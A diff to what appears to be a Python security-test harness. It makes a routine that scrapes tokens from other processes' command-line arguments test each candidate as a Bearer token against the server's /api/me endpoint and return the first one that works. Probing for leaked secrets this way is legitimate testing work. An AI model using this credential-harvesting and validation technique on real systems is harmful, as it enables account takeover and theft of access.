@@ -14,6 +14,7 @@ import socket
 import subprocess
 import sys
 import time
+import urllib.error
 import urllib.request
 
 FACTS = json.loads(pathlib.Path(FACTS_FILE).read_text())  # noqa: F821 - set by the test
@@ -45,6 +46,15 @@ def key(text):
         if mark in text:
             return f"found {mark}"
     raise LookupError("no key in it")
+
+
+def opens(token):
+    """Returns true if this server takes the token. Other servers of the machine are not under attack."""
+    request = urllib.request.Request(f"{URL}/api/me", headers={"Authorization": f"Bearer {token.decode()}"})
+    try:
+        return urllib.request.urlopen(request, timeout=10).status == 200
+    except urllib.error.HTTPError:
+        return False
 
 
 def shell(command, **more):
@@ -231,8 +241,8 @@ def by_arguments_of_processes():
         with contextlib.suppress(OSError):
             texts.append(pathlib.Path(path).read_bytes())
     # Words like "content_type" stand in command lines as well.
-    found = TOKEN.search(b" ".join(texts))
-    return f"found {found.group()[:12]}" if found else key("")
+    found = next(filter(opens, TOKEN.findall(b" ".join(texts))), None)
+    return f"found {found[:12]}" if found else key("")
 
 
 @way
